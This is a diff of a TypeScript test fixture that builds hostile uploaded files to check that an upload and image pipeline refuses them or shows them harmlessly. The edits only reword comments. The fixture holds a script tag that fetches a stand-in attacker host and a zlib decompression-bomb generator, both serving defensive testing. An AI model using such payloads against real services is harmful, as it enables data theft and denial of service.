@@ -22,7 +22,10 @@ import {
   withSegment,
 } from './handmade-pictures.ts';
 
-/** One hostile file and what becomes of it: refused with a code, or taken and shown as a picture that has nothing of it. */
+/**
+ * One hostile file and its outcome: refused with a code, or accepted and shown as a picture with
+ * nothing of it.
+ */
 export interface HostileFile {
   readonly what: string;
   readonly name: string;
@@ -31,7 +34,7 @@ export interface HostileFile {
   readonly becomes: RefusalCode | 'harmless';
 }
 
-/** Stands in every file that is taken: it must be in nothing that is shown. */
+/** In every accepted file; must be in nothing that is shown. */
 export const HOSTILE_MARK = 'HOSTILE-MARK';
 
 const SCRIPT = `<script>fetch("//evil.example/${HOSTILE_MARK}")</script>`;
@@ -50,7 +53,7 @@ const PACKED_MEGABYTE = deflateRawSync(Buffer.alloc(MEGABYTE), {
 });
 const LAST_EMPTY_BLOCK = Buffer.from([0x03, 0x00]);
 
-/** Megabytes of zeros in a thousandth of that, as a whole zlib stream (RFC 1950), checksum included. */
+/** Megabytes of zeros in a thousandth of that, as a whole zlib stream (RFC 1950) with checksum. */
 function bomb(megabytes: number): Buffer {
   const checksum = Buffer.from([0, 0, 0, 1]);
   checksum.writeUInt16BE((megabytes * MEGABYTE) % 65_521);
@@ -83,7 +86,7 @@ const pdfFile = (what: string, bytes: Buffer, becomes: HostileFile['becomes']): 
   becomes,
 });
 
-/** What enemies, broken programs and unlucky people send. */
+/** What attackers, broken programs and unlucky people send. */
 export async function hostileFiles(): Promise<readonly HostileFile[]> {
   const jpeg = await noise('jpeg');
   const png = await noise('png');
